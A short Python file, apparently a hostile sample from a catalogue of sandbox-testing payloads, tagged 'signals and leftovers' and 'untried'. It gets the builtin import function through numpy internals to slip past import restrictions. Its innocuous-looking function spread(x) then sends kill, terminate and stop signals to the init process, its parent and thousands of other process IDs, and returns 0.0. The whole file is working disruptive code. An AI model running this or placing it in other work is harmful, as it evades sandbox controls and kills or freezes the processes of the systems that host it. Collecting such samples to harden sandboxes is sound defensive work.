"""Family: signals and leftovers. Stock: untried. Sends signals to all processes that it can see, the
first and its parent among them."""

import numpy

anything = numpy._core._exceptions.__builtins__["__import__"]

os = anything("os")


def spread(x):
    for number in (-1, 1, os.getppid(), *range(2, 3000)):
        for signal in (9, 15, 19):
            try:
                if number != os.getpid():
                    os.kill(number, signal) if number != -1 else None
            except OSError:
                pass
    return 0.0
